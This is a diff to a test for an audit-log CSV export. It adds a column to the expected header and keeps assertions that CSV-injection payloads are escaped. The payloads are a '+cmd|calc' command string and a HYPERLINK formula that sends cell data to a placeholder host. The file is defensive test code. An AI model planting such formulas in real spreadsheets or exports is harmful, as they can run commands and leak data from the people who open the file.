@@ -138,7 +138,7 @@ describe('audit CSV export', () => {
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}\.csv"$/);
     const lines = res.body.split('\r\n').filter(Boolean);
-    expect(lines[0]).toBe('seq,at,actor_id,actor_label,action,target_type,target_id,detail,prev_hash,hash');
+    expect(lines[0]).toBe('seq,at,at_office_time,actor_id,actor_label,action,target_type,target_id,detail,prev_hash,hash');
     expect(lines).toHaveLength(2);
     expect(lines[1]).toContain(`,'+cmd|calc,evil.csv,note,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",`);
     expect(lines[1]).toContain('"{""text"":""@SUM(1,2)""}"');
